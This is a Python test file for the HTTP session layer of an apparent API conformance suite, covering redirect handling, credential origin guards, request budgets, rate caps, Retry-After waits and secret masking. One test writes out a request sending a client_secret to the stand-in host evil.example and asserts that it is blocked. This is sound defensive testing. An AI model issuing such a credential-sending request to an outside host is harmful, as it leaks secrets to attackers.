"""The HTTP layer: the only sender. Redirects never followed, credentials never sent elsewhere,
a rate cap, a request budget, a read cap, and every exchange masked."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from conformance.evidence import Recorder
from conformance.http import BudgetExhausted, CredentialGuard, Session, TargetError
from conformance.masking import Masker
from conformance.reference import ReferenceServer, ServerSettings


@pytest.fixture(scope="module")
def server() -> Iterator[ReferenceServer]:
    with ReferenceServer(ServerSettings()) as running:
        yield running


def session(server: ReferenceServer, **options: object) -> Session:
    return Session(base_url=server.base_url, masker=Masker(), recorder=Recorder(), **options)  # type: ignore[arg-type]


def test_redirects_are_returned_not_followed(server: ReferenceServer) -> None:
    http = session(server)
    answer = http.request("GET", "/apis/v2/oauth/authorize?client_id=nobody&response_type=code")
    assert http.requests_sent == 1
    assert answer.status in {200, 400}  # an error page: the AS never redirects for an unknown client
    login = http.request("POST", "/apis/v2/oauth/login", data={"username": "x", "password": "y"})
    assert not login.is_redirect or http.requests_sent == 2


def test_credentials_never_go_to_another_origin(server: ReferenceServer) -> None:
    http = session(server)
    with pytest.raises(CredentialGuard):
        http.request("POST", "https://evil.example/token", data={"client_secret": "s3cret-value"})
    with pytest.raises(CredentialGuard):
        http.request("GET", "http://127.0.0.1:1/x", headers={"Authorization": "Bearer abc"})
    assert http.requests_sent == 0


def test_request_budget_stops_sending(server: ReferenceServer) -> None:
    http = session(server, max_requests=2)
    http.request("GET", "/v2/patients")
    http.request("GET", "/v2/patients")
    with pytest.raises(BudgetExhausted):
        http.request("GET", "/v2/patients")
    assert http.requests_sent == 2


def test_a_sibling_session_records_apart_but_shares_the_budget_and_rate_cap(server: ReferenceServer) -> None:
    """The expiry probes' session (`Session.sibling`): its own evidence and count, the run's limits."""
    http = session(server, max_requests=3, max_rps=20)
    probes = http.sibling(Recorder())
    http.request("GET", "/v2/patients")
    probes.request("GET", "/v2/patients")
    assert (http.requests_sent, probes.requests_sent) == (1, 1)
    assert len(http.recorder.take()[0]) == len(probes.recorder.take()[0]) == 1
    http.request("GET", "/v2/patients")
    with pytest.raises(BudgetExhausted):  # three sent between them: the process's budget is spent
        probes.request("GET", "/v2/patients")
    assert http.budget.exhausted and probes._limiter is http._limiter  # one budget, one rate cap
    unlimited = session(server)
    unlimited.sibling(Recorder()).close()  # a sibling leaves the shared connections open
    assert unlimited.request("GET", "/v2/patients").status == 401


def test_rate_cap_holds_within_ten_percent(server: ReferenceServer) -> None:
    http = session(server, max_rps=20)
    started = time.monotonic()
    for _ in range(21):
        http.request("GET", "/v2/patients")
    elapsed = time.monotonic() - started
    rate = 20 / elapsed  # 21 requests span 20 intervals
    assert rate <= 20 * 1.10, f"{rate:.1f} requests per second against a cap of 20"


def test_unreachable_target_is_a_target_error_with_evidence() -> None:
    recorder = Recorder()
    http = Session(base_url="http://127.0.0.1:1", masker=Masker(), recorder=recorder, timeout=2)
    with pytest.raises(TargetError, match="could not connect"):
        http.request("GET", "/v2/patients")
    exchanges, _ = recorder.take()
    assert exchanges and exchanges[0].error


def test_exchanges_are_masked_at_capture(server: ReferenceServer) -> None:
    recorder = Recorder()
    masker = Masker()
    http = Session(base_url=server.base_url, masker=masker, recorder=recorder)
    primary = server.credentials["clients"]["primary"]
    masker.register(primary["client_secret"])
    answer = http.request("POST", "/apis/v2/oauth/token", data={
        "grant_type": "client_credentials", "client_id": primary["client_id"],
        "client_secret": primary["client_secret"]})  # fmt: skip
    token = answer.json["access_token"]
    exchanges, _ = recorder.take()
    text = "".join(e.summary() + e.as_curl() for e in exchanges)
    assert primary["client_secret"] not in text and token not in text
    assert "client_id=conformance-primary" in text


class _Throttling(BaseHTTPRequestHandler):
    """Answers 429 with `Retry-After: 1` to the first request, then 200: a server throttling the suite."""

    answered = 0

    def do_POST(self) -> None:  # noqa: N802 (http.server's naming)
        self.rfile.read(int(self.headers.get("content-length", 0)))
        type(self).answered += 1
        throttled = type(self).answered == 1
        self.send_response(429 if throttled else 200)
        if throttled:
            self.send_header("Retry-After", "1")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def throttling() -> Iterator[str]:
    _Throttling.answered = 0
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Throttling)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_retry_after_is_waited_for_then_sent_once_more(throttling: str) -> None:
    """RFC 6585 §4 / RFC 9110 §10.2.3: a 429 says when to come back; the suite waits, then asks again."""
    recorder = Recorder()
    http = Session(base_url=throttling, masker=Masker(), recorder=recorder, max_retry_wait=5)
    started = time.monotonic()
    response = http.request("POST", "/token", data={"grant_type": "client_credentials"})
    assert response.status == 200 and time.monotonic() - started >= 1.0
    exchanges, _ = recorder.take()
    assert [e.status for e in exchanges] == [429, 200]  # both in the evidence
    assert http.requests_sent == 2


def test_throttling_is_seen_as_it_is_when_asked(throttling: str) -> None:
    """The brute-force check looks for the 429 itself; and a Retry-After beyond max_retry_wait is not waited for."""
    http = Session(base_url=throttling, masker=Masker(), recorder=Recorder(), max_retry_wait=5)
    assert http.request("POST", "/token", data={}, wait_when_throttled=False).status == 429
    _Throttling.answered = 0
    impatient = Session(base_url=throttling, masker=Masker(), recorder=Recorder(), max_retry_wait=0.5)
    assert impatient.request("POST", "/token", data={}).status == 429
